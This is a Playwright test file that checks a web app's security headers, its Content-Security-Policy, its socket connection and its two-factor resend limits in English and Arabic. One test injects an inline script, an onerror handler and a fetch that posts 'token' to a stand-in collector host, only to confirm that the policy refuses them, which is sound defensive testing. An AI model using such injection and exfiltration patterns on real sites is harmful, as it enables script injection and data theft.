/**
 * The browser app under its own security headers, in Chromium against the app
 * as `npm start` runs it: every screen works without one Content-Security-Policy
 * violation (public pages, sign-in, the socket, Create New Case with a face
 * image preview, a case, Manage Case, Settings with the two-factor QR code),
 * the policy really refuses injected script and foreign connections, and the
 * sign-in code limits show on /verify-otp in the user's language.
 */
import type { Page, WebSocket } from '@playwright/test';
import { codeIn } from '../helpers/smtp';
import { SEEDED, apiToken, expect, signIn, test } from './fixtures';

test.describe.configure({ mode: 'serial' });
test.setTimeout(120_000);

const shot = (page: Page, name: string) => page.screenshot({ path: `${process.env.SCREENS_DIR ?? 'test-results/screens'}/${name}.png` });

/** A 1x1 PNG, for the face image preview (a blob: URL). */
const PIXEL_PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

/**
 * Collects everything the browser reports about the page's security policies:
 * console messages ("Refused to ...", Permissions-Policy header errors) and
 * securitypolicyviolation events.
 */
async function watchPolicies(page: Page) {
  const reports: string[] = [];
  page.on('console', (message) => {
    const text = message.text();
    if (/Refused to|Content Security Policy|Content-Security-Policy|Permissions-Policy|Permissions Policy/i.test(text)) reports.push(`console: ${text}`);
  });
  // Runs through the DevTools protocol, before the app's own scripts; the policy does not apply to it.
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __policyViolations: string[] }).__policyViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return {
    reports,
    async violations(): Promise<string[]> {
      const fromPage = await page.evaluate(() => (window as unknown as { __policyViolations?: string[] }).__policyViolations ?? []);
      return [...reports, ...fromPage.map((v) => `event: ${v}`)];
    },
  };
}

let counter = 0;
const uniqueEmail = (prefix: string) => `${prefix}.${Date.now()}.${counter++}@example.com`;

test('every screen works under the policy, with the socket connected and nothing refused', async ({ page, request, app }) => {
  const policies = await watchPolicies(page);
  // Each full page load opens the session's socket again; the latest one is the page's.
  const sockets: { ws: WebSocket; frames: string[] }[] = [];
  page.on('websocket', (ws) => {
    const entry = { ws, frames: [] as string[] };
    sockets.push(entry);
    ws.on('framereceived', (frame) => entry.frames.push(String(frame.payload)));
  });
  const current = () => sockets[sockets.length - 1];
  /** Publishes a live event to the signed-in user through a real call and waits for the page's socket to hear it. */
  const liveEventArrives = async (token: string) => {
    const heardBefore = current().frames.length;
    const edited = await request.post(`${app.url}/api/edit-notification`, { data: { all: true, is_read: true }, headers: { authorization: `Bearer ${token}` } });
    expect(edited.ok()).toBe(true);
    await expect.poll(() => current().frames.slice(heardBefore).some((f) => f.includes('notifications-changed'))).toBe(true);
  };

  // Public pages, and the headers the document itself carries.
  const loginPage = await page.goto('/login');
  const headers = loginPage!.headers();
  expect(headers['content-security-policy']).toContain("script-src 'self';");
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['permissions-policy']).toContain('camera=()');
  await expect(page.getByLabel('E-mail')).toBeVisible();
  await shot(page, 'csp-login-en');
  for (const path of ['/forgot-password', '/signup']) {
    await page.goto(path);
    await expect(page.locator('main h1')).toBeVisible();
  }
  await page.getByTestId('language-switch').selectOption('ar');
  await expect(page.locator('html')).toHaveAttribute('dir', 'rtl');
  await page.goto('/login');
  await expect(page.locator('main h1')).toBeVisible();
  await shot(page, 'csp-login-ar');
  await page.getByTestId('language-switch').selectOption('en');
  await expect(page.locator('html')).toHaveAttribute('dir', 'ltr');

  // Sign-in opens the socket to the app's own origin, and live events arrive on it.
  await signIn(page, SEEDED.admin);
  await expect(page).toHaveURL(/\/dashboard$/);
  await expect.poll(() => sockets.length).toBeGreaterThan(0);
  const socketUrl = new URL(current().ws.url());
  expect(socketUrl.host).toBe(new URL(app.url).host);
  expect(socketUrl.protocol).toBe('ws:');
  expect(socketUrl.pathname).toBe('/socket.io/');
  const token = await apiToken(request, app.url, SEEDED.admin);
  await liveEventArrives(token);

  // Create New Case: a chosen face image is previewed from a blob: URL.
  await page.goto('/make-case');
  await expect(page.getByTestId('page-title')).toHaveText('Create New Case');
  await page.locator('input[name=face_image]').setInputFiles({ name: 'face.png', mimeType: 'image/png', buffer: PIXEL_PNG });
  const preview = page.getByTestId('make-case-form').locator('img[src^="blob:"]');
  await expect(preview).toBeVisible();
  await expect.poll(() => preview.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(1);

  // A case and Manage Case.
  const search = await request.post(`${app.url}/api/search`, { headers: { authorization: `Bearer ${token}` }, data: { search_term: 'Aiman al Zawahiri', entity_type: 'person' }, timeout: 90_000 });
  expect(search.ok(), await search.text()).toBe(true);
  const reference = (await search.json()).reference as string;
  await page.goto(`/case/${reference}`);
  await expect(page.getByTestId('hit-row').first()).toBeVisible({ timeout: 30_000 });
  await shot(page, 'csp-case-en');
  await page.goto('/manage-case');
  await expect(page.getByTestId('cases-table').getByTestId('table-row').first()).toBeVisible();

  // Settings: the authenticator QR code is a data: URL image.
  await page.goto('/settings');
  await page.getByTestId('two-factor-app-enable').click();
  const qr = page.getByTestId('two-factor-qr');
  await expect(qr).toBeVisible();
  expect(await qr.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
  await expect.poll(() => qr.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
  await shot(page, 'csp-settings-qr-en');
  await page.keyboard.press('Escape');

  // Still connected after all that navigation.
  expect(current().ws.isClosed()).toBe(false);
  await liveEventArrives(token);
  expect(await policies.violations()).toEqual([]);
});

test('the policy refuses injected inline script, handler attributes and connections to other origins', async ({ page }) => {
  const policies = await watchPolicies(page);
  await page.goto('/login');
  await expect(page.getByLabel('E-mail')).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>;
    const script = document.createElement('script');
    script.textContent = 'window.__injectedScriptRan = true;';
    document.body.appendChild(script);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__injectedHandlerRan = true');
    img.src = 'data:,not-an-image';
    document.body.appendChild(img);
    let fetched = 'no';
    try {
      await fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'token' });
      fetched = 'yes';
    } catch {
      fetched = 'refused';
    }
    await new Promise((r) => setTimeout(r, 100));
    return { script: w.__injectedScriptRan === true, handler: w.__injectedHandlerRan === true, fetched };
  });
  expect(outcome).toEqual({ script: false, handler: false, fetched: 'refused' });
  const violations = (await policies.violations()).filter((v) => v.startsWith('event:'));
  expect(violations.some((v) => v.includes('script-src'))).toBe(true);
  expect(violations.some((v) => v.includes('connect-src') && v.includes('127.0.0.1:9'))).toBe(true);
});

test('/verify-otp says when no more codes can be sent, in the user\'s language', async ({ page, request, app }) => {
  const policies = await watchPolicies(page);
  // A fresh account of its own organisation with e-mail two-factor on.
  const account = { email: uniqueEmail('resend'), password: 'Sturdy-pass-7' };
  const signup = await (await request.post(`${app.url}/api/signup`, { data: { name: 'Rita Resend', company_name: 'Resend Co', ...account } })).json();
  const auth = { authorization: `Bearer ${signup.access_token}` };
  let since = app.smtp.messages.length;
  await request.post(`${app.url}/api/configure-otp`, { data: { action: 'start' }, headers: auth });
  const setupCode = codeIn(await app.smtp.waitFor(account.email, { since }));
  expect((await request.post(`${app.url}/api/configure-otp`, { data: { action: 'confirm', code: setupCode }, headers: auth })).ok()).toBe(true);

  since = app.smtp.messages.length;
  await signIn(page, account);
  await expect(page).toHaveURL(/\/verify-otp$/);
  await app.smtp.waitFor(account.email, { since, subject: /sign-in code/ });

  const resend = page.getByRole('button', { name: 'Send a new code' });
  let lastCode = '';
  for (let i = 0; i < 3; i++) {
    since = app.smtp.messages.length;
    await resend.click();
    lastCode = codeIn(await app.smtp.waitFor(account.email, { since, subject: /sign-in code/ }));
    await expect(resend).toBeEnabled();
    await expect(page.getByTestId('server-error')).toHaveCount(0);
  }
  await resend.click();
  await expect(page.getByTestId('server-error')).toHaveText('No more codes can be sent for this sign-in. Enter the last code you received, or sign in again.');
  await shot(page, 'verify-otp-resend-limit-en');

  await page.getByTestId('language-switch').selectOption('ar');
  await expect(page.locator('html')).toHaveAttribute('dir', 'rtl');
  await expect(page.getByTestId('server-error')).toHaveText('لا يمكن إرسال مزيد من الرموز لعملية تسجيل الدخول هذه. أدخل آخر رمز تلقيته، أو سجّل الدخول مرة أخرى.');
  await shot(page, 'verify-otp-resend-limit-ar');
  await page.getByTestId('language-switch').selectOption('en');

  // The last code sent still signs in.
  await page.getByLabel('Verification code').fill(lastCode);
  await page.getByRole('button', { name: 'Verify' }).click();
  await expect(page).toHaveURL(/\/plans$/);
  expect(await policies.violations()).toEqual([]);
});
